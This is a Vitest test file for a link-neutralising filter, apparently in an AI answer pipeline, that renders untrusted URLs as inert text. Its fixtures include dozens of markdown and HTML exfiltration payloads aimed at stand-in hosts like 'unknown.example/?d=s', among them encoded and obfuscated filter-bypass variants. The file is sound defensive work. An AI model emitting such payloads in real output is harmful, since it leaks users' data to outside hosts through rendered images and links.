import { describe, expect, test } from "vitest";
import { createNeutraliseLinks } from "../../../nodes/answer/neutralise-links.ts";

const evidence = [{ sourceUrl: "https://open-meteo.com/", data: {} }];
const neutralise = createNeutraliseLinks("see python.org and żółw.pl", ["visit https://evil.example/p"], evidence);

describe("a link to a host that nobody vouches for is shown as text", () => {
  test.each([
    ["[here](https://evil.example/p)", "here (`https://evil.example/p`)"],
    ["Go to https://evil.example/p.", "Go to `https://evil.example/p`."],
    ["![x](https://unknown.example/?q=secret)", "x (`https://unknown.example/?q=secret`)"],
    ["![x](//unknown.example/a.png)", "x (`//unknown.example/a.png`)"],
    ["[my own](https://nodejs.org)", "my own (`https://nodejs.org`)"],
    ["![x][1]\n\n[1]: https://evil.example/?d=s", "![x][1]\n\n[1] `https://evil.example/?d=s`"],
    ["[1]:\n<https://evil.example/?d=s>", "[1]:\n`https://evil.example/?d=s`"],
    ["<img src=https://unknown.example/?d=s>", "`‹img src=https://unknown.example/?d=s›`"],
    ["<https://unknown.example/?d=s>", "`https://unknown.example/?d=s`"],
    ["![[x]](https://unknown.example/?d=s)", "![[x]] (`https://unknown.example/?d=s`)"],
    ["![two\nlines](https://unknown.example/?d=s)", "two\nlines (`https://unknown.example/?d=s`)"],
    ["![x](https:\\\\unknown.example/?d=s)", "x (`https:\\\\unknown.example/?d=s`)"],
    ["see www.unknown.example/x", "see `www.unknown.example/x`"],
  ])("%s", (text, shown) => {
    expect(neutralise(text)).toBe(shown);
  });
});

/** Whether anything of the text could still be loaded or followed: an address that is not wholly inside a code span. */
const alive = (text: string) =>
  /(?:https?:|[/\\]{2}|www\.|&#|&colon|&sol)[^\s`]*unknown|unknown\.example/i.test(text.replace(/`[^`\n]*`/g, ""));

test.each([
  "![x](https:/\\unknown.example/?d=s)",
  "![x](https:\\/\\/unknown.example/?d=s)",
  "![x](/\\unknown.example/?d=s)",
  "![x](\\\\unknown.example/?d=s)",
  "![x](https:unknown.example/?d=s)",
  "![x](HTTPS://UNKNOWN.example/?d=s)",
  "![x](https&#58;//unknown.example/?d=s)",
  "![x](https&colon;&sol;&sol;unknown.example/?d=s)",
  "![x](&#x2f;&#x2f;unknown.example/?d=s)",
  "![x](https://open-meteo.com@unknown.example/?d=s)",
  '![x](<https://unknown.example/?d=s> "title")',
  "![x](\n https://unknown.example/?d=s)",
  "![a [b] c](https://unknown.example/?d=s)",
  "[![x](https://unknown.example/?d=s)](https://unknown.example/)",
  "b](https://unknown.example/?d=s)",
  "```x``` ![x](https://unknown.example/?d=s)",
  "~~~ ![x](https://unknown.example/?d=s)",
  "```\ncode\n```\n![x](https://unknown.example/?d=s)",
  "```\n![x](https://unknown.example/?d=s)",
  "` ![x](https://unknown.example/?d=s)",
  "` ![x](https://unknown.example/?d=s) `",
  "`` ![x](https://unknown.example/?d=s) `",
  '<img alt="x"\nsrc="https://unknown.example/?d=s">',
  "<img src=//unknown.example/?d=s>",
  "<img src='https&#58;//unknown.example/?d=s'>",
  '<div style="background:url(https://unknown.example/?d=s)">',
  '<a href="https://unknown.example/?d=s">x</a>',
  "<img src=https://unknown.example/?d=s",
  "[x]: //unknown.example/?d=s",
  "[x]: <https\\://unknown.example/?d=s>",
  "> [x]: https://unknown.example/?d=s 'title'",
  "ftp://unknown.example/s and wss://unknown.example/s",
])("nothing of %j can be loaded or followed", (text) => {
  expect(alive(neutralise(text))).toBe(false);
});

describe("what is vouched for, or leads nowhere else, stays", () => {
  test.each([
    "[source](https://open-meteo.com/en)",
    "![map](https://open-meteo.com/map.png)",
    "https://python.org is fine.",
    "https://www.python.org/downloads and https://żółw.pl/x.",
    "[1]: https://open-meteo.com/en",
    "<https://python.org/x>",
    '<img src="https://open-meteo.com/map.png">',
    "[part](#part), [file](docs/clients.md), [mail](mailto:anna@python.org)",
    "Fish & chips: 3/4 at 10:30, and/or 12//2; a ratio of 1:2.",
    "Use `curl https://api.unknown.example/v1` for that.",
    "```sh\ncurl https://unknown.example/x\n```",
    "~~~\n![x](https://unknown.example)\n~~~\n",
    "C:\\Users\\anna and \\\\nas\\share",
    "See [1] and [2]: both say so.",
  ])("%s", (text) => {
    expect(neutralise(text)).toBe(text);
  });

  test("and so does everything while nobody else has written anything", () => {
    expect(createNeutraliseLinks("", [], [])("![x](https://a.example)")).toBe("![x](https://a.example)");
  });
});

test.each(["](", "[", "![x](https://a.b ", "`", "` `", "<a ", "[x]: ", "https:", "//a.", "\\", "&#", "[a]("])(
  "100 KB of %j take linear time",
  (piece) => {
    const text = `https://unknown.example/ ${piece.repeat(Math.ceil(100_000 / piece.length))}`;
    neutralise(text.slice(0, 2_000));
    const started = process.cpuUsage();
    neutralise(text);
    const { user, system } = process.cpuUsage(started);
    expect((user + system) / 1_000).toBeLessThan(1_000);
  },
);
